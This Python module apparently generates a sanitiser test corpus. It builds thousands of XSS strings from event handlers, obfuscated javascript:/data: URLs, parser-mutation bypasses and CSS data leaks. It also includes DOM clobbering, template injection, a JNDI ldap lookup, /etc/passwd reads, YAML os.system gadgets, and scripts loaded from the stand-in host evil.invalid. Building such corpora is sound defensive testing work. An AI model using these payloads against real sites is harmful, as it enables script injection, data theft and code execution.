"""Strings that run something where a page takes them for mark-up: tags, links, and the tricks that got past cleaners.

They are written by a grammar, after the collections of OWASP, HTML5 Security and DOMPurify: each piece below is known
from there. `STRINGS` has each once, always in the same order. What they would do is `RUN`, which the tests hear.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice, product

RUN = "alert(1)"
FAR = "https://evil.invalid/x"
_TAGS = (
    "a", "abbr", "applet", "area", "article", "audio", "b", "base", "bgsound", "blink", "blockquote", "body", "br",
    "button", "canvas", "center", "code", "custom-tag", "dd", "details", "dialog", "div", "dl", "em", "embed",
    "fieldset", "font", "footer", "form", "frame", "frameset", "head", "header", "hr", "html", "i", "iframe", "image",
    "img", "input", "isindex", "keygen", "label", "li", "link", "listing", "main", "map", "mark", "marquee", "math",
    "menu", "meta", "nav", "nobr", "noembed", "noframes", "object", "ol", "option", "output", "p", "picture",
    "plaintext", "pre", "q", "rt", "s", "section", "select", "slot", "source", "span", "strong", "style", "sub",
    "summary", "sup", "svg", "table", "tbody", "td", "template", "textarea", "th", "title", "tr", "track", "tt", "u",
    "ul", "var", "video", "wbr", "xmp", "xss",
)
_HANDLERS = (
    "onabort", "onafterprint", "onanimationend", "onanimationstart", "onbeforecopy", "onbeforeinput",
    "onbeforetoggle", "onbeforeunload", "onbegin", "onblur", "onbounce", "oncanplay", "onchange", "onclick",
    "oncontentvisibilityautostatechange", "oncopy", "oncut", "ondblclick", "ondrag", "ondrop", "onend", "onended",
    "onerror", "onfinish", "onfocus", "onfocusin", "onformdata", "onhashchange", "oninput", "oninvalid", "onkeydown",
    "onload", "onloadeddata", "onloadend", "onmessage", "onmousedown", "onmouseenter", "onmouseover", "onmousewheel",
    "onpageshow", "onpaste", "onplay", "onpointerdown", "onpointerenter", "onpointerover", "onpopstate", "onprogress",
    "onratechange", "onrepeat", "onreset", "onresize", "onscroll", "onscrollend", "onsearch",
    "onsecuritypolicyviolation", "onseeked", "onselect", "onstart", "onsubmit", "ontimeupdate", "ontoggle",
    "ontouchstart", "ontransitionend", "onunhandledrejection", "onunload", "onwebkitanimationstart", "onwheel",
)
_FORMS = (
    "<{tag} {on}={run}>", '<{tag} {on}="{run}">x</{tag}>', "<{tag}/{on}='{run}'/>", "<{tag} {on}=`{run}`>",
    '<{tag} id=x tabindex=1 autofocus {on}={run}>x', '<{tag} src=x data=x href=x {on} = "{run}" >',
    "<{TAG} {ON}={run}>", '"><{tag} {on}={run}>', "'><{tag} {on}={run}//", "<{tag}\t{on}\t=\t{run}>",
    "<{tag}\x0b{on}={run}>", "<{tag}\u00a0{on}={run}>", "<{tag} x='>' {on}={run}>", '<{tag} {on}="{coded}">',
    "<{tag} style=animation-name:x {on}={run}>", "<<{tag} {on}={run}>", "<{tag} {on}={run} <x", "</{tag} {on}={run}>",
    "&lt;{tag} {on}={run}&gt;", "&#60;{tag} {on}={run}&#62;", "\\<{tag} {on}={run}\\>", "`<{tag} {on}={run}>`",
    "<{tag}\u2028{on}={run}>", "<{tag} {on}={run}", "＜{tag} {on}={run}＞", "<{tag}\x0c{on}={run}>",
)
_CODED = "".join(f"&#{ord(sign)};" for sign in RUN)
_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "javascript&colon;{run}", "java&#10;script:{run}",
    "java&Tab;script:{run}", "java&NewLine;script:{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}",
    "&#0000106avascript:{run}", "\x01javascript:{run}", "&#1;javascript:{run}", " javascript:{run}",
    "&#32;javascript:{run}", "\u00a0javascript:{run}", "java\tscript:{run}", "javascript\t:{run}",
    "javascript:&#97;lert(1)", "javascript://%0a{run}", "javascript://example.org/%0d%0a{run}",
    "javascript:/*--></title></style></script>*/{run}", "%6aavascript:{run}", "javascript%3A{run}",
    "java\\script:{run}", "\\javascript:{run}", "javascript:{run};//https://example.org", "https:javascript:{run}",
    "http:&#10;javascript:{run}", "mailto:javascript:{run}", "tel:javascript:{run}", "view-source:javascript:{run}",
    "feed:javascript:{run}", "jar:javascript:{run}", "livescript:{run}", "mocha:{run}", "vbscript:msgbox(1)",
    "VBscript:{run}", "vbs:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/onload={run}>",
    "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'/>", "data:text/javascript,{run}",
    "DATA:text/html,{run}", "data&colon;text/html,{run}", "blob:null/x", "filesystem:x", "file:///etc/passwd",
    "about:blank", "//evil.invalid/x", "\\\\evil.invalid\\x", "/\\evil.invalid",
    "https://evil.invalid/\"onclick={run}", "https://evil.invalid/'onclick='{run}",
    "https://evil.invalid/><script>{run}</script>", "https://example.org@evil.invalid/",
    "https://evil.invalid/`onclick={run}`", "ｊavascript:{run}", "javaſcript:{run}", "javascript：{run}",
    "a.md#javascript:{run}", "?javascript:{run}", "#\"onclick=\"{run}", "x:{run}", "tel:\"onclick={run}",
    "mailto:x@x?subject=<img src=x onerror={run}>", "ms-its:x", "res://x", "intent:#Intent;end", "wyciwyg://x",
)
_LINKED = (
    '<a href="{url}">x</a>', "<a href={url}>x", '<area href="{url}">',
    '<form action="{url}"><button>x</button></form>', '<button form=find formaction="{url}">x</button>',
    '<iframe src="{url}"></iframe>', '<object data="{url}">', '<embed src="{url}">',
    '<svg><a xlink:href="{url}"><text y=9>x</text></a></svg>', '<math href="{url}">x</math>', '<base href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">', '<img src="{url}">', '<img srcset="{url} 1x">',
    '<input type=image src="{url}">', '<body background="{url}">', '<link rel=stylesheet href="{url}">',
    '<svg><animate attributeName=href to="{url}"/></svg>', '<svg><use href="{url}"/></svg>',
    '<script src="{url}"></script>', '<video poster="{url}">', '<a ping="{url}" href="#">x</a>', "[x]({url})",
    "[x](<{url}>)", "<{url}>", "[x][r]", "[r]: {url}", '[x]({url} "x")', "![x]({url})", "[![x](x)]({url})",
    "<q cite={url}>x</q>", "<div style=\"background:url({url})\">",
)
_MUTATES = (
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={run}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<svg><p><style><g title=\"</style><img src onerror={run}>\">",
    "<math><annotation-xml encoding=\"text/html\"><style></math><img src onerror={run}>",
    "<template><style></template><img src=x onerror={run}></style>",
    "<title><a title=\"</title><img src=x onerror={run}>\">",
    "<textarea><a title=\"</textarea><img src=x onerror={run}>\">", "<xmp><p title=\"</xmp><svg/onload={run}>\">",
    "<noembed><p title=\"</noembed><img src=x onerror={run}>\">",
    "<noframes><p title=\"</noframes><img src=x onerror={run}>\">",
    "<iframe><p title=\"</iframe><img src=x onerror={run}>\">",
    "<style><p title=\"</style><img src=x onerror={run}>\">",
    "<svg><foreignObject><math><mi><style><img src=x onerror={run}></style>",
    "<select><noscript></select><img src=x onerror={run}>",
    "<table><caption><svg><title><template><style></title></style></template><img src=x onerror={run}>",
    "<svg><desc><noscript><img alt=\"</noscript><script>{run}</script>\">",
    "<p><svg><desc></p><img src=x onerror={run}>", "<math><mi><select><mi><select><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->", "<!---><script>{run}</script>-->",
    "<!--[if IE]><script>{run}</script><![endif]-->", "<![CDATA[<img src=x onerror={run}>]]>",
    "<svg><![CDATA[><img src=x onerror={run}>]]>", "<?xml-stylesheet href=\"javascript:{run}\"?>",
    "<?php <img src=x onerror={run}> ?>", "<!DOCTYPE x [<!ENTITY x \"<script>\">]>&x;", "<svg><script>{run}</script>",
    "<svg><script>&#97;lert(1)</script>", "<svg><script xlink:href=\"data:,{run}\"/>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to={run}>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>#x\">",
    "<svg><foreignObject><iframe srcdoc=\"<script>{run}</script>\"></foreignObject></svg>",
    "<svg><image href=x onerror={run}>",
    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">{run}</handler>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    "<iframe srcdoc=\"&lt;script&gt;parent.{run}&lt;/script&gt;\">",
    "<iframe srcdoc='<img src=x onerror=parent.{run}>'>",
    "<object type=text/html data=\"data:text/html,<script>{run}</script>\">",
    "<embed type=image/svg+xml src=\"data:image/svg+xml,<svg onload={run}>\">", "<portal src=javascript:{run}>",
    "<applet code=x archive={far}>", "<isindex type=image src=1 onerror={run}>",
    "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>", "<link rel=import href={far}>",
    "<link rel=prefetch href={far}>", "<link rel=dns-prefetch href=//evil.invalid>",
    "<link rel=preload as=image imagesrcset={far}>", "<script type=module>import '{far}'</script>",
    "<script>{run}</script>", "</script><script>{run}</script>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script\n>{run}</script\n>", "<SCRIPT/XSS SRC=\"{far}\"></SCRIPT>", "<script src=//evil.invalid/x.js>",
    "<script>{run}//", "\ufeff<script>{run}</script>", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "%3Cscript%3E{run}%3C/script%3E", "\\x3cscript\\x3e{run}", "\\u003cscript\\u003e{run}",
    "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;", "&amp;lt;script&amp;gt;{run}", "<ſcript>{run}</ſcript>",
    "\ue0000\ue001<script>{run}</script>", "&#xe000;0&#xe001;<img src=x onerror={run}>", "‮<script>{run}</script>",
    "```\n</code><script>{run}</script>\n```", "`</code><script>{run}</script>`", "    <script>{run}</script>",
    "**<b title='**'onclick={run}>**", "_<i _onclick={run}>_", "*[x]: <script>{run}</script>",
    "<div markdown=1><script>{run}</script></div>", "[a](https://x \"<img src=x onerror={run}>\")",
    "![\"onerror={run} x=\"](a.png)", "![x](a.png \"\\\"onerror={run} x=\\\"\")",
    "[<img src=x onerror={run}>](https://example.org)", "<https://example.org/\"onclick={run}>",
    "<x@x.x\"onclick={run}>",
)
_STYLES = (
    "x:expression({run})", "background:url(javascript:{run})", "background-image:url('{far}')",
    "list-style:url({far})", "-moz-binding:url({far}#x)", "behavior:url({far})", "@import '{far}';",
    "@import url({far});", "@im\\port '{far}';", "@font-face{{font-family:x;src:url({far})}}*{{font-family:x}}",
    "*{{background:image-set('{far}' 1x)}}", "a{{content:url({far})}}", "@namespace url({far});",
    "cursor:url({far}),auto", "filter:url({far}#x)", "mask:url({far}#x)", "position:fixed;inset:0;z-index:9999",
    "input[value^=a]{{background:url({far})}}", "}}*{{background:url({far})", "</style><script>{run}</script>",
    "x:\\65 xpression({run})", "x:exp/**/ression({run})", "border-image:-webkit-image-set('{far}' 1x)",
    "--x:url({far});background:var(--x)", "@media screen{{*{{background:url({far})}}}}",
    "@supports(x:y){{*{{background:url({far})}}}}", "src:url({far})", "width:cross-fade(url({far}),url({far}))",
)
_STYLED = (
    "<style>{css}</style>", '<p style="{css}">x</p>', "<svg><style>{css}</style></svg>",
    "<link rel=stylesheet href=\"data:text/css,{css}\">",
)
_NAMES = (
    "alert", "attributes", "body", "childNodes", "cookie", "createElement", "documentElement", "easier",
    "easier-button", "find", "firstChild", "forms", "getElementById", "head", "innerHTML", "listen-button",
    "location", "main", "nodeName", "ownerDocument", "parentNode", "planEasier", "planPlaces", "planPlayer",
    "planPlayerMarkUp", "planWords", "player", "querySelector", "results", "speechSynthesis", "window", "word",
    "__proto__",
)
_CLOBBERS = (
    "<img name={name}>", "<form id={name}><input name={name}></form>",
    "<a id={name}><a id={name} name=x href=javascript:{run}>", "<object id={name}></object>",
    "<iframe name={name} srcdoc=x></iframe>", "<embed name={name}>", "<b id={name} class=away hidden>x</b>",
)
_TEMPLATES = (
    "{{{{7*7}}}}", "{{{{config}}}}", "{{{{self.__init__.__globals__}}}}", "{{% raw %}}x{{% endraw %}}",
    "{{% include '/etc/passwd' %}}", "{{% for x in ().__class__.__base__.__subclasses__() %}}x{{% endfor %}}",
    "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "<?= 7*7 ?>", "{{{{''.__class__.__mro__[1]}}}}",
    "{{{{constructor.constructor('{run}')()}}}}", "{{#x#}}", "[[${{7*7}}]]", "*{{7*7}}", "@(7*7)",
    "${{jndi:ldap://evil.invalid/x}}", "`${{{run}}}`", "%(x)s", "%s%n", "{{0.__class__}}", "{{known_as}}",
    "{{name!r}}",
)
_YAML = (
    "!!python/object/apply:os.system ['{run}']", "!!python/name:os.system", "!!python/object/new:os.system [x]",
    "!!binary PHNjcmlwdD4=", "!<tag:yaml.org,2002:python/object/apply:os.system> [x]", "&a [*a,*a]", "*a", "<<: *a",
    "!!set {{x}}", "!!map {{x: y}}", "%TAG ! x", "--- !x", "|\n  <script>{run}</script>",
    ">\n  <script>{run}</script>", "? <script>{run}</script>", "'<script>{run}</script>",
)


def _filled(forms: tuple[str, ...], **given: str) -> Iterator[str]:
    return (form.format(run=RUN, far=FAR, **given) for form in forms)


def _strings() -> Iterator[str]:
    handlers, forms = cycle(_HANDLERS), cycle(_FORMS)
    for tag, _ in product(_TAGS, range(11)):  # each tag with other handlers in other forms, each of which comes round
        on = next(handlers)
        yield next(forms).format(tag=tag, TAG=tag.upper(), on=on, ON=on.upper(), run=RUN, coded=_CODED)
    for number, scheme in enumerate(_filled(_SCHEMES)):  # each spelling in twelve of the places, the next in the next
        yield from (form.format(url=scheme) for form in islice(cycle(_LINKED), number * 5, number * 5 + 12))
    for trick in _filled(_MUTATES):
        yield from (trick, f"x{trick}</p>", f'">{trick}', f"</title></textarea></style>{trick}")
    for css in _filled(_STYLES):
        yield from (form.format(css=css) for form in _STYLED)
    for name in _NAMES:
        yield from _filled(_CLOBBERS, name=name)
    yield from _filled(_TEMPLATES)
    yield from _filled(_YAML)


STRINGS = tuple(dict.fromkeys(_strings()))
